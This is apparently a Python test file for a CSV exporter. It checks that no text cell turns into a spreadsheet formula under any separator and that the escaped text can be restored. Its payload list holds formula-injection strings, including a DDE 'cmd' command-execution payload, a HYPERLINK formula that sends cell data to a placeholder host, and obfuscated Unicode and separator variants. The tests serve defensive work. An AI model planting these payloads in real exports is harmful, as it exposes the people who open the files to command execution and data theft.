"""Text in a CSV stays text: whichever separator it is opened with, and it can be had back as it was typed."""

import csv
import io
import re
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from conftest import AKAR
from hypothesis import given
from hypothesis import strategies as st
from jahat import berturut, sel, siapkan
from periksa_teks import PEMISAH, salah_csv

from lakip_xl.ekspor.tabel_rapi import TabelRapi
from lakip_xl.ekspor.teks_csv import baris_csv, teks_aman
from lakip_xl.ekspor.tulis import BentukEkspor, tulis_tabel
from lakip_xl.pipeline.export import export

BukaCsv = Callable[[Path, str], Path]
JAHAT = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "\x01=1+1",
    '"=1+1',
    '""=1+1',
    "'\"=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "a;=1+1",
    "a; =1+1",
    'a;"=1+1',
    "a;=cmd|'/C calc'!A0;b",
    "a,=1+1",
    "a\t=1+1",
    "a\r=1+1",
    "a\r\n=1+1",
    "a\x85=1+1",
    "a\u2028＝1+1",
    'a";=1+1;"b',
    'a"\n=1+1\n"b',
    ";;\t;,=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1)',
    'x;=HYPERLINK("http://example.invalid/?"&A1;"y")',
    "x\n- satu\n- dua",
    "'=1+1",
    "''=1+1",
    "a;",
    'a"',
    'a;"',
    "a\n",
)
BIASA = (
    "",
    "biasa",
    "naik 5 %, lalu turun",
    "kata 'kutip', 'dua'",
    'kata "kutip"',
    "a - b = c",
    "2.17.03",
    "x@y.id",
    "a;b",
    "a\rb",
)
HURUF = st.text(st.sampled_from("=+-@＝＋－＠ \t\r\n;,'\"\u200b\u202e\x01\x85ab1|!()"), max_size=12)
TABEL = TabelRapi("uji", ("tahun", "teks", "angka", "lain"), lambda *_: ())


def tulis(folder: Path, semua: list[str], angka: Decimal = Decimal("-1.5")) -> Path:
    """Write a table of texts, each between a year, a negative number and the same text again."""
    baris = [{"tahun": 2022, "teks": teks, "angka": angka, "lain": teks} for teks in semua]
    return tulis_tabel(TABEL, baris, folder, BentukEkspor.CSV)


def cara_kembali() -> Callable[[str], str]:
    """Return what docs/ekspor.md tells readers to do."""
    halaman = (AKAR / "docs" / "ekspor.md").read_text(encoding="utf-8")
    (kode,) = re.findall(r"^    (import re\n(?:    .*\n|\n)+)", halaman, re.MULTILINE)
    ruang: dict[str, Any] = {}
    exec(kode.replace("\n    ", "\n"), ruang)  # noqa: S102 - the lines of our own page, as a reader runs them
    asli: Callable[[str], str] = ruang["teks_asli"]
    return asli


@pytest.mark.parametrize("teks", JAHAT)
def test_no_text_acts_with_any_separator(teks: str, tmp_path: Path) -> None:
    assert list(salah_csv(tulis(tmp_path, [teks]).read_bytes())) == []


@given(st.lists(HURUF, min_size=1, max_size=4))
def test_no_text_of_any_shape_acts_and_each_comes_back(semua: list[str]) -> None:
    baris = "\n".join(baris_csv([2022, teks, Decimal("-1.5"), teks]) for teks in semua)
    assert list(salah_csv(f"\ufeff{baris}\n".encode())) == []
    kembali = cara_kembali()
    terbaca = list(csv.reader(io.StringIO(f"{baris}\n", newline="")))
    assert [(sel[2], kembali(sel[1]), kembali(sel[3])) for sel in terbaca] == [("-1.5", teks, teks) for teks in semua]


@given(st.text(max_size=40))
def test_a_text_comes_back_as_it_was(teks: str) -> None:
    assert cara_kembali()(teks_aman(teks)) == teks


@pytest.mark.parametrize("teks", BIASA)
def test_an_ordinary_text_is_written_as_it_is(teks: str) -> None:
    assert teks_aman(teks) == teks


def test_texts_stand_in_quotes_numbers_do_not_and_nothing_is_nothing() -> None:
    assert baris_csv(["a\rb", Decimal("-1.50"), -3, None, Decimal("1E+3"), 'c"d']) == '"a\rb",-1.50,-3,,1000,"c""d"'


def test_bytes_of_a_name_that_are_no_text_do_not_stop_a_table(tmp_path: Path) -> None:
    isi = tulis(tmp_path, ["lain.\udcff", "\ud800"]).read_bytes().decode("utf-8-sig")
    assert isi.count("\N{REPLACEMENT CHARACTER}") == 4


def test_what_was_typed_comes_back_from_the_csv_of_a_year(tmp_path: Path) -> None:
    folder = siapkan(
        tmp_path,
        berturut(
            sel("Anggaran", "@alasan/6", "x;=1+1\n- dua", "s"),
            sel("Data Dasar", "@catatan/6", "＝1+1", "s"),
        ),
    )
    _, berkas = export(folder, tmp_path / "csv")
    for jalur in berkas:
        assert list(salah_csv(jalur.read_bytes())) == []
    teks = (tmp_path / "csv" / "anggaran.csv").read_bytes().decode("utf-8-sig")
    alasan = {baris["alasan"] for baris in csv.DictReader(io.StringIO(teks, newline=""))}
    assert "x;'=1+1\n'- dua" in alasan
    assert "x;=1+1\n- dua" in set(map(cara_kembali(), alasan))


@pytest.mark.lambat
@pytest.mark.parametrize("pemisah", [*PEMISAH, PEMISAH], ids=["koma", "titik koma", "tab", "semua"])
def test_libreoffice_makes_no_formula_of_any_text(pemisah: str, buka_csv: BukaCsv, tmp_path: Path) -> None:
    contoh = [*JAHAT, *BIASA]
    berkas = tulis(tmp_path, contoh)
    buku = openpyxl.load_workbook(buka_csv(berkas, pemisah))
    semua = [isi for baris in buku.active.iter_rows() for isi in baris if isi.value is not None]
    assert [isi.value for isi in semua if isi.data_type == "f"] == []
    if pemisah == ",":
        assert {isi.value for isi in semua if isi.column == 3 and isi.row > 1} == {-1.5}
        kembali = cara_kembali()
        tertulis = [kembali(baris[1].value or "") for baris in buku.active.iter_rows(min_row=2)]
        assert [_rapi(teks) for teks in tertulis] == [_rapi(teks) for teks in contoh]


@pytest.mark.lambat
def test_the_same_texts_written_plainly_are_formulas(buka_csv: BukaCsv, tmp_path: Path) -> None:
    """What the test above looks for is there to be found."""
    berkas = tmp_path / "polos.csv"
    berkas.write_text('2022,"=1+1"\n2022,"a;=1+2"\n', encoding="utf-8-sig")
    for pemisah in ",;":
        buku = openpyxl.load_workbook(buka_csv(berkas, pemisah))
        assert [isi for baris in buku.active.iter_rows() for isi in baris if isi.data_type == "f"] != [], pemisah


def _rapi(teks: str) -> str:
    """Spreadsheets hold \\n for every end of a line, and no control characters."""
    return re.sub(r"[\x00-\x08\x0b-\x1f]|_x00[01]._", "", teks.replace("\r\n", "\n").replace("\r", "\n"))
